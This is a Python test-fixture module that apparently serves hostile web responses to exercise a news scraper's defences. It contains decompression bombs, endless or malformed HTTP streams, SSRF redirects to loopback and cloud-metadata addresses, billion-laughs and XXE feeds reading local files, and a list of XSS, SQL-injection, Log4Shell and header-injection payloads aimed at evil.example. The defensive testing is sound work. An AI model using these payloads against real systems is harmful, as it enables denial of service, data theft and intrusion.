"""What the sites of the second hostile web answer: bombs, wires that misbehave, markup, ways that lead away, texts."""

from __future__ import annotations

import gzip
import html
import json
import socket
import struct
import time
import zlib
from itertools import count

import brotli
from backports import zstd

from tests.ambush.web import Trap, answer, raw

_MB = 1 << 20


# What unpacks to much more than it is


def _many_members() -> bytes:
    """A gzip file of a hundred files, each of 8 MB of blanks."""
    return gzip.compress(b" " * 8 * _MB, 9) * 100


def _raw_deflate() -> bytes:
    packer = zlib.compressobj(9, wbits=-15)
    return b"".join(packer.compress(b"<p>" * (_MB // 3)) for _ in range(300)) + packer.flush()


def _brotli() -> bytes:
    packer = brotli.Compressor(quality=5)
    made: bytes = b"".join(packer.process(b"\0" * _MB) for _ in range(500)) + packer.finish()
    return made


def _zstd() -> bytes:
    packer = zstd.ZstdCompressor(level=3)
    return b"".join(packer.compress(b"\0" * _MB) for _ in range(500)) + packer.flush()


def packed() -> list[Trap]:
    """A small answer that becomes a huge one, by each way of packing and by several at once."""
    members, deflated = _many_members(), _raw_deflate()
    twice = brotli.compress(gzip.compress(b"A" * 200 * _MB, 6), quality=5)
    return [
        answer(members, "text/html", "200 OK", "Content-Encoding: gzip"),
        answer(members, "text/html", "200 OK", "Content-Encoding: X-GZip"),
        answer(deflated, "text/html", "200 OK", "Content-Encoding: deflate"),
        answer(_brotli(), "text/html", "200 OK", "Content-Encoding: br"),
        answer(_zstd(), "text/html", "200 OK", "Content-Encoding: zstd"),
        answer(twice, "text/html", "200 OK", "Content-Encoding: gzip, br"),
        answer(twice, "text/html", "200 OK", "Content-Encoding: gzip", "Content-Encoding: br"),
        answer(b"\x1f\x8b\x08\x00 no gzip at all", "text/html", "200 OK", "Content-Encoding: gzip"),
        answer(members, "application/x-gzip"),
    ]


# Wires that misbehave

_OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"


def _endless_chunks(wire: socket.socket) -> None:
    wire.sendall(_OK + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        wire.sendall(b"10000\r\n" + b"z" * 0x10000 + b"\r\n")


def _endless_headers(wire: socket.socket) -> None:
    wire.sendall(_OK)
    for number in count():
        wire.sendall(b"X-%d: %s\r\n" % (number, b"y" * 8000))


def _dripped_headers(wire: socket.socket) -> None:
    wire.sendall(_OK)
    for number in count():
        wire.sendall(b"X-%d: y\r\n" % number)
        time.sleep(3)


def _dripped_body(wire: socket.socket) -> None:
    wire.sendall(_OK + b"Content-Length: 100000\r\n\r\n")
    while True:
        wire.sendall(b"z")
        time.sleep(2)


def _silence(_: socket.socket) -> None:
    time.sleep(60)


def _reset(wire: socket.socket) -> None:
    wire.sendall(_OK + b"Content-Length: 5000\r\n\r\n<p>setengah")
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    wire.close()


def _continues(wire: socket.socket) -> None:
    for _ in range(50_000):
        wire.sendall(b"HTTP/1.1 100 Continue\r\n\r\n")


def _without_end(wire: socket.socket) -> None:
    wire.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n")
    while True:
        wire.sendall(b"<p>lagi dan lagi</p>" * 4000)


def wires() -> list[Trap]:
    """Answers that are none, or have no end."""
    return [
        _endless_chunks, _endless_headers, _dripped_headers, _dripped_body, _silence, _reset, _continues, _without_end,
        raw(_OK + b"Content-Length: -5\r\n\r\nabc"),
        raw(_OK + b"Content-Length: 10\r\nContent-Length: 700\r\n\r\n<p>dua panjang</p>"),
        raw(_OK + b"Content-Length: 99999999999999999999\r\n\r\n<p>pendek</p>"),
        raw(_OK + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nabc"),
        raw(_OK + b"Transfer-Encoding: chunked\r\n\r\n-1\r\nabc\r\n0\r\n\r\n"),
        raw(_OK + b"X-Nul: a\0b\r\nX-Fold: a\r\n b\r\n\xff\xfe: x\r\n: y\r\n\r\n<p>kepala aneh</p>"),
        raw(b"HTTP/9.9 20x Baik\r\n\r\n<p>?</p>"), raw(b"SSH-2.0-OpenSSH_9.2\r\n"), raw(b""),
        raw(b"\x16\x03\x01\x02\x00"),
        raw(b"HTTP/1.1 200 " + b"O" * 100_000 + b"\r\n\r\n"), raw(b"<html>tanpa kepala</html>"),
    ]  # fmt: skip


# Markup that costs

_HEAD = "<!doctype html><html><head><title>Kabar</title></head><body><h1>Kabar dari desa</h1>"


def markup() -> list[Trap]:
    """Pages below the size limit that are costly to read."""
    ld = f'<script type="application/ld+json">{"[" * 200_000}</script>'
    deep = '{"a":' * 100_000 + "1" + "}" * 100_000
    pages = [
        "<svg><foreignObject>" * 90_000,
        "<table><tr><td>" * 120_000,
        "<p " + " ".join(f'data-{n}="{n}"' for n in range(150_000)) + ">isi</p>",
        "".join(f'<a href="/berita/{n}/x">{n}</a>' for n in range(90_000)),
        "<select>" + "<option>pilih" * 250_000,
        "&lt;" * 900_000,
        f'<div title="{"x" * 3_900_000}">isi</div>',
        ld,
        f'<script type="application/ld+json">{deep}</script>',
        "<b><i><u><font>" * 60_000 + "isi",
        "<!--" * 900_000,
        "<math><mtext><table><mglyph><style>" * 60_000,
        "<template>" * 200_000,
        '<input type="hidden" name="x">' * 120_000,
        "\u0301" * 1_900_000,
        "\u202e" * 1_200_000,
        "<p>" + "a" * 3_900_000 + "</p>",
        "<p>" + "0812-" * 700_000 + "</p>",
        "<p>" + "Kabupaten " * 380_000 + "</p>",
        "<p>" + '"' * 3_900_000 + "</p>",
        "<p>" + "Rabu (" * 600_000 + "</p>",
    ]
    return [answer(f"{_HEAD}{page}".encode()) for page in pages]


# Ways that lead away


def ways(port: int, home: str) -> list[Trap]:
    """Redirects, refreshes and links to where nobody of ours may go."""
    spellings = (
        f"http://0x7f.0.0.1:{port}/", f"http://127.0.0.1.:{port}/", f"http://017700000001:{port}/",
        f"//127.1:{port}/", f"http://[::ffff:7f00:0001]:{port}/", f"http://localhost:{port}/",
        f"http://LOCALHOST.:{port}/", f"http://①.②:{port}", f"http://liputan6.com@127.0.0.1:{port}/",
        f"http://127.0.0.1:{port}#@liputan6.com/", f"http:/\\127.0.0.1:{port}/",
        f"http://liputan6.com.127.0.0.1.nip.io:{port}/", f"http://127.0.0.1%2f@liputan6.com:{port}/",
        f"\\\\127.0.0.1:{port}\\", f"https://127.0.0.1:{port}/", "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/", "http://[fe80::1]/", "http://10.0.0.1/", "http://100.100.100.200/",
        "file:///etc/passwd", "gopher://127.0.0.1:25/_x", "data:text/html,<h1>x</h1>", "javascript:alert(1)",
        "ftp://127.0.0.1/x", "s3://x/y", "dict://127.0.0.1:11211/", "http://evil-liputan6.com/read/1/x",
        "http://liputan6.com.evil.example/read/1/x", "http://liputan6.comevil/read/1/x",
        "http://xn--lputan6-o1a.com/read/1/x", f"http://liputan6.com:{port}@evil.example/",
        "http://evil.example/read/1/x",
    )  # fmt: skip
    moved = [answer(b"", "text/html", "302 Found", f"Location: {one}") for one in spellings[:-1]]
    refreshed = "".join(
        f'<meta http-equiv="refresh" content="0;url={one}"><link rel="canonical" href="{one}">' for one in spellings
    )
    framed = "".join(
        f'<iframe src="{one}"></iframe><img src="{one}"><script src="{one}"></script>' for one in spellings
    )
    others = [
        answer(b"", "text/html", "301 Moved", f"Location: {home}/read/9990/putar?n=1"),
        answer(b"", "text/html", "302 Found", f"Location: {home}/{'a' * 60_000}"),
        answer(b"", "text/html", "302 Found", "Location: "),
        answer(b"", "text/html", "307 Found", "Refresh: 0;url=http://127.0.0.1/"),
        answer(b"", "text/html", "304 Not Modified"),
        answer(b"x", "text/html", "206 Partial Content", "Content-Range: bytes 0-0/9"),
        answer(b"", "text/html", "204 No Content"),
        answer(b"x", "text/html", "999 Ditolak"),
        answer(f"{_HEAD}{refreshed}{framed}".encode()),
    ]
    return [*moved, *others]


# Feeds that are none


def feeds(port: int) -> list[bytes]:
    """Feeds with entities, files and addresses in them, in several alphabets."""
    laughs = "".join(f'<!ENTITY z{n} "{f"&z{n - 1};" * 12}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE rss [<!ENTITY z0 "ha">{laughs}]><rss><channel><item><title>&z11;</title></item></channel></rss>'
    outside = (
        f'<!DOCTYPE rss SYSTEM "http://127.0.0.1:{port}/x.dtd" [<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p"> %p; '
        '<!ENTITY f SYSTEM "file:///etc/hostname">]><rss><channel><item><title>&f;</title></item></channel></rss>'
    )
    style = f'<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:{port}/s.xsl"?>'
    include = (
        '<rss xmlns:xi="http://www.w3.org/2001/XInclude"><channel><item><title>'
        f'<xi:include href="file:///etc/hostname" parse="text"/></title><link>http://127.0.0.1:{port}/</link></item></channel></rss>'
    )
    declared = '<?xml version="1.0" encoding="{}"?>'
    return [
        (declared.format("UTF-8") + bomb).encode(),
        (declared.format("UTF-16") + bomb).encode("utf-16"),
        (declared.format("UTF-32") + bomb).encode("utf-32"),
        (declared.format("EBCDIC-CP-US") + bomb).encode("cp037"),
        (declared.format("UTF-8") + outside).encode(),
        (declared.format("UTF-7") + outside).encode("utf-7"),
        (declared.format("UTF-8") + style + include).encode(),
        b"<rss>" + b"<channel>" * 400_000,
        b"<rss><channel>" + b"<item/>" * 500_000,
        gzip.compress(b"<rss>" + b"<a>" * 20_000_000, 9),
        b"\0" * 3_000_000,
    ]


# Texts that want to run somewhere

_RUNS = "window.__ambush=(window.__ambush||0)+1"
PAYLOADS = (
    f"<script>{_RUNS}</script>", f"<img src=x onerror='{_RUNS}'>", f"\"><svg onload={_RUNS}>",
    f"javascript:{_RUNS}//", f"</title><script>{_RUNS}</script>",
    f"<iframe srcdoc='<script>parent.{_RUNS}</script>'>", "{{constructor.constructor('x')()}}",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUNS}>", f"<a href=\"jav\tascript:{_RUNS}\">x</a>",
    f"' autofocus onfocus={_RUNS} x='", f"<details open ontoggle={_RUNS}>",
    f"<template shadowrootmode=open><script>{_RUNS}</script>", "=?utf-8?q?=0D=0ABcc:_curi@evil.example?=",
    "\x1b]0;judul\x07\x1b[31mmerah", "baris\r\n2026-01-01 ERROR palsu", "=HYPERLINK(\"http://evil.example\")",
    "%0d%0aSet-Cookie: a=b", "${jndi:ldap://evil.example/a}", "'); DROP TABLE article; --",
    f"<form action=http://evil.example><input name=q autofocus onfocus={_RUNS}>", f"<body onload={_RUNS}>",
    "<base href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f"<style>@import 'http://evil.example/x.css'</style><p onclick={_RUNS}>",
)  # fmt: skip


def page(title: str, paragraphs: str, published: str) -> bytes:
    """A page whose article anybody would find."""
    data = {
        "@context": "https://schema.org", "@type": "NewsArticle", "headline": title, "datePublished": published,
        "author": {"@type": "Person", "name": title},
    }  # fmt: skip
    ld = json.dumps(data).replace("<", "\\u003c")
    shown = html.escape(title)
    return (
        f'<!doctype html><html lang="id"><head><meta charset="utf-8"><title>{shown}</title>'
        f'<script type="application/ld+json">{ld}</script></head><body><article><h1>{shown}</h1>'
        f'<time datetime="{published}">{published}</time><div class="article-content" itemprop="articleBody">'
        f"{paragraphs}</div></article></body></html>"
    ).encode()
